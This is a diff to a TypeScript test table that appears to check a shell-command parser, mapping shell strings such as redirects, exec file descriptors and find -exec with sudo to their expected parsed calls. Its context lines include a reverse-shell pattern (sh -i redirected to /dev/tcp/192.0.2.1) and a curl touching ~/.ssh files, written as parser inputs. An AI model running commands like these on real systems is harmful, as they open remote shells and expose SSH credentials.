@@ -38,6 +38,17 @@ const CALLS: readonly (readonly [string, readonly string[]])[] = [
     ["1 sh('-i')", "1 redirect('/dev/tcp/192.0.2.1/9', operator='>&') |0"],
   ],
   ['/usr/bin/curl $HOME/.ssh/$f', ["1 curl(parts['~', '/.ssh/', @env.f])"]],
+  ['sh < a > b', ["1 redirect('a', operator='<')", '1 sh() |0', "1 redirect('b', operator='>') |1"]],
+  ['exec 5<>a; sh <&5', ['1 exec()', "1 redirect('a', operator='<>') |0", '1 sh() |1']],
+  ['read -u 3 x 3<a; $x', ["1 redirect('a', operator='<')", "1 read('-u', '3', 'x')", '1 $() on #0']],
+  [
+    'find a -exec sudo b {} \\; -execdir c {} + -print',
+    [
+      "1 find('a', '-exec', 'sudo', 'b', '{}', ';', '-execdir', 'c', '{}', '+', '-print')",
+      "1 b('{}', wrapper='find sudo') |0",
+      "1 c('{}', wrapper='find') |0",
+    ],
+  ],
   ['f() { wget "$1"; }\nf x', ['1 wget(?)', "2 local.f('x')"]],
   ['if a; then b; fi\nfor i in 1 2; do c $i; done', ['1 a()', '1 b()', "2 c(any['1', '2'])"]],
 ];
